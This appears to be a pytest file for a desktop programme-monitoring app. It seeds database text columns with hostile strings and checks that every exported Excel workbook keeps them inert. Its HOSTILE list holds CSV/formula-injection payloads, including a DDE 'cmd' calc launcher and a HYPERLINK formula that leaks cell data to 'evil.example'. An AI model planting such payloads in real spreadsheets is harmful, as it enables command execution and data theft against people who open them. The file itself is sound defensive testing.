"""Every workbook the app can write holds hostile user text as inert text.

Hostile text (formulas, formulas after whitespace, full-width signs, NUL and other
control characters) goes into every free-text column of the programme's tables:
found from the models, so a column added later is covered without touching this
test. Then every workbook is written (the export catalogue, so a new export is
covered too, and the CAP meeting papers) and read back: no cell is a formula, no
text reads as one, no character XML forbids is left. A guard test lists the
modules that create workbooks, so a new kind of workbook must be added here.
"""

from __future__ import annotations

import ast
import datetime as dt
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import String, Text, func, select, text

import bm_desktop
from bm_desktop.db.base import Base
from bm_desktop.db.models import CapMeeting, Incident, ProgrammeRegion, Site
from bm_desktop.exchange import agenda_workbook
from bm_desktop.exchange.agenda_workbook import write_meeting_workbook, write_region_workbook
from bm_desktop.exchange.exports.catalogue import EXPORTS
from bm_desktop.exchange.exports.job import workbook_export
from bm_desktop.exchange.exports.request import ExportRequest
from bm_desktop.exchange.safe_text import is_neutral
from bm_desktop.exchange.xlsform import export_form
from bm_desktop.services import meetings

HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+2\x00",
    "-2+3",
    "@SUM(A1:A9)\x07",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n@SUM(1)",
    "\uff1d1+1",
    "NUL\x00 bell\x07 escape\x1b form\x0c",
)
# Not free text: codes and enumerations the app reads as such, clocks, and the sync
# machinery (never written to a workbook).
NOT_TEXT = {
    "countries.iso3",
    "minerals.code",
    "minerals.group",
    "minerals.supply_chain",
    "risk_categories.code",
    "risk_areas.code",
    "risk_areas.annex2_heading",
    "stakeholder_types.code",
    "users.role",
    "users.password_hash",
    "sites.status",
    "cap_meetings.month",
    "cap_meetings.status",
    "cap_meetings.starts_at",
    "incidents.source",
    "incidents.verification",
    "site_risks.status",
    "site_status_changes.status",
    "corrective_actions.kind",
    "corrective_actions.priority",
    "action_progress.status",
    "action_progress.seq",
    "agenda_items.section",
    "agenda_items.ref_table",
    "agenda_items.ref_ids",
    "stakeholders.kind",
    "stakeholders.gender",
    "security_events.source",
}
MACHINERY = {
    "auth_tokens",
    "conflicts",
    "local_settings",
    "outbox",
    "sync_feed",
    "sync_receipts",
    "sync_state",
    "devices",
}
ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")
SITE, MONTH = "SK-01", "2022-12"  # a site with a held meeting, minutes and decisions


def free_text_columns() -> list[tuple[str, str, bool]]:
    """(table, column, unique) of every free-text column of the programme's data."""
    found = []
    for table in Base.metadata.sorted_tables:
        if table.name in MACHINERY:
            continue
        for col in table.columns:
            if (
                not isinstance(col.type, String | Text)
                or col.primary_key
                or col.foreign_keys
                or col.name in ("updated_at", "updated_by")
                or f"{table.name}.{col.name}" in NOT_TEXT
            ):
                continue
            unique = bool(col.unique) or any(
                getattr(c, "columns", None) is not None
                and col.name in c.columns
                and c.__class__.__name__ == "UniqueConstraint"
                for c in table.constraints
            )
            found.append((table.name, col.name, unique))
    return found


@pytest.fixture
def hostile_db(sample_db):
    """The sample programme with hostile text in every free-text column of every row."""
    params = {f"h{i}": h for i, h in enumerate(HOSTILE)}
    keys = HOSTILE.index("\t=1+1")  # codes and names are looked up trimmed: no spaces

    def case(n: int) -> str:
        return f"CASE rowid % {n} " + " ".join(f"WHEN {i} THEN :h{i}" for i in range(n)) + " END"

    with sample_db.engine.begin() as conn:
        site_id = conn.execute(select(Site.id).where(Site.code == SITE)).scalar_one()
        for table, column, unique in free_text_columns():
            value = f"({case(keys)}) || ' #' || rowid" if unique else case(len(HOSTILE))
            conn.execute(text(f'UPDATE {table} SET "{column}" = {value}'), params)
    sample_db.hostile_site_id = site_id
    return sample_db


def _requests(db) -> tuple[str, str, dt.date]:
    with db.sessions() as s:
        site = s.get(Site, db.hostile_site_id)
        region = s.scalar(select(ProgrammeRegion.name).where(ProgrammeRegion.id == site.region_id))
        last = s.scalar(
            select(func.max(Incident.occurred_on)).where(
                Incident.site_id == site.id, Incident.deleted.is_(False)
            )
        )
        held = s.scalar(
            select(func.count())
            .select_from(CapMeeting)
            .where(
                CapMeeting.site_id == site.id,
                CapMeeting.month == MONTH,
                CapMeeting.status == "held",
            )
        )
    assert held, "the sample programme should hold a meeting on this site in this month"
    return site.code, region, last


def every_workbook(db, folder: Path) -> dict[str, Path]:
    """Write every workbook the app can produce from ``db``; name -> file."""
    code, region, last_incident = _requests(db)
    written: dict[str, Path] = {}
    for name, kind in sorted(EXPORTS.items()):
        if kind.period == "week":
            start = last_incident - dt.timedelta(days=last_incident.weekday())
            end = start + dt.timedelta(days=6)
        else:
            start, end = dt.date(2021, 4, 1), dt.date(2022, 12, 31)
        request = ExportRequest(
            start,
            end,
            site_code=code if kind.needs_site else None,
            include_sensitive=kind.sensitive,
            role="coordinator",
            today=dt.date(2023, 1, 15),
        )
        written[name] = kind.run(db, request, folder / f"{name}.xlsx").path
    for name, write in AGENDAS.items():
        written[name] = write(db, folder / f"{name}.xlsx", code, region)
    return written


AGENDAS: dict[str, Callable[..., Path]] = {
    "meeting-papers": lambda db, path, code, region: write_meeting_workbook(
        meetings.meeting_papers(db, code, MONTH, "en"), path, "en"
    ),
    "region-agendas": lambda db, path, code, region: agenda_workbook.write_region_agendas(
        db, region, MONTH, path, "en"
    )[0],
    "trip-itinerary": lambda db, path, code, region: _trip_itinerary(db, path, code, region),
    "monitors-form": lambda db, path, code, region: (export_form(db, path), path)[1],
}


def _trip_itinerary(db, path: Path, code: str, region: str) -> Path:  # noqa: ANN001
    """The visit planner's itinerary for a trip to the hostile site (its contacts,
    actions and incidents in the checklist; its name in the itinerary)."""
    from bm_desktop.exchange.trip_workbook import write_trip_workbook
    from bm_desktop.services.trip_checklists import site_checklists
    from bm_desktop.services.trip_planner import TripRequest, plan_trip
    from bm_desktop.services.visit_priorities import PlannerArea

    with db.sessions() as s:
        site = s.get(Site, db.hostile_site_id)
        position = (site.longitude + 0.05, site.latitude)
    plan = plan_trip(
        db,
        TripRequest(
            PlannerArea(region=region),
            "Base",
            dt.date(2022, 3, 1),
            1,
            site_codes=[code],
            start_position=position,
            time_limit_s=0.2,
        ),
    )
    assert plan.stops, "the trip should reach the hostile site"
    checklists = site_checklists(db, [plan.stops[0].site.id], dt.date(2022, 3, 1))
    return write_trip_workbook(plan, checklists, path)


# The modules that create workbooks, each covered above (through EXPORTS or AGENDAS).
WORKBOOK_MODULES = {kind.run.__module__ for kind in EXPORTS.values()} | {
    write_meeting_workbook.__module__,
    write_region_workbook.__module__,
    export_form.__module__,
    "bm_desktop.exchange.trip_workbook",
    workbook_export.__module__,
}  # the start every export of the catalogue shares


def unsafe_cells(path: Path) -> tuple[list[str], int]:
    """What is wrong in a workbook (formulas, formula-like text, illegal characters),
    and how many cells hold hostile text made safe."""
    problems = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and FORMULA_ELEMENT.search(z.read(name)):
                problems.append(f"{name} has a formula element")
    wb = load_workbook(path)
    defused = 0
    for ws in wb.worksheets:
        if ILLEGAL.search(ws.title):
            problems.append(f"sheet title {ws.title!r}")
        for row in ws.iter_rows():
            for cell in row:
                where = f"{ws.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    problems.append(f"{where} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str):
                    if not is_neutral(cell.value):
                        problems.append(f"{where} reads as a formula: {cell.value!r}")
                    if ILLEGAL.search(cell.value):
                        problems.append(f"{where} holds a control character: {cell.value!r}")
                    defused += cell.value.startswith(
                        ("'=", "'+", "'-", "'@", "'\t", "'\r", "' =", "'\n@", "'\uff1d")
                    )
    return problems, defused


def test_every_workbook_keeps_hostile_text_inert(hostile_db, tmp_path: Path) -> None:
    columns = {f"{t}.{c}" for t, c, _ in free_text_columns()}
    # the fields people type or import are all covered
    assert {
        "sites.name",
        "sites.code",
        "stakeholders.name",
        "incidents.description",
        "corrective_actions.description",
        "cap_meetings.minutes",
        "agenda_items.title",
        "meeting_decisions.text",
        "meeting_attendance.name",
        "action_progress.note",
        "programme_regions.name",
        "security_events.notes",
    } <= columns
    books = every_workbook(hostile_db, tmp_path)
    assert set(books) == set(EXPORTS) | set(AGENDAS)
    for name, path in books.items():
        problems, defused = unsafe_cells(path)
        assert problems == [], f"{name}: {problems[:5]}"
        assert defused > 0, f"{name}: no hostile text reached the workbook"


def _creates_workbooks(tree: ast.AST) -> bool:
    return any(
        isinstance(node, ast.Call)
        and getattr(node.func, "id", getattr(node.func, "attr", None))
        in ("streaming_workbook", "paper_workbook", "workbook_export")
        for node in ast.walk(tree)
    )


def test_every_module_that_creates_a_workbook_is_scanned_above() -> None:
    root = Path(bm_desktop.__file__).parent
    creators = set()
    for path in root.rglob("*.py"):
        if "xlsx" in path.relative_to(root).parts:
            continue
        if _creates_workbooks(ast.parse(path.read_text(encoding="utf-8"))):
            creators.add(".".join(("bm_desktop", *path.relative_to(root).with_suffix("").parts)))
    assert creators, "no module creates a workbook: the scan is broken"
    assert creators <= WORKBOOK_MODULES, (
        f"{sorted(creators - WORKBOOK_MODULES)} write workbooks this test does not check: "
        "add them to the export catalogue or to AGENDAS"
    )


# Outside bm_desktop/exchange/xlsx, openpyxl serves for styles, charts, validation and
# reading: workbooks, worksheets and cells come from the one cell writer.
WRITERS = (
    "openpyxl.cell",
    "openpyxl.workbook",
    "openpyxl.worksheet.worksheet",
    "openpyxl.worksheet._write_only",
    "openpyxl.writer",
)
WRITER_NAMES = {
    "Workbook",
    "Cell",
    "WriteOnlyCell",
    "MergedCell",
    "Worksheet",
    "WriteOnlyWorksheet",
}


def test_no_module_bypasses_the_cell_writer() -> None:
    root = Path(bm_desktop.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        parts = path.relative_to(root).parts
        if parts[:2] == ("exchange", "xlsx"):
            continue
        where = "/".join(parts)
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                names = {a.name for a in node.names}
                if node.module.startswith(WRITERS) or names & WRITER_NAMES:
                    offenders.append(f"{where}: from {node.module} import {sorted(names)}")
            elif isinstance(node, ast.Import):
                offenders += [
                    f"{where}: import {a.name}"
                    for a in node.names
                    if a.name == "openpyxl" or a.name.startswith(WRITERS)
                ]
    assert offenders == []
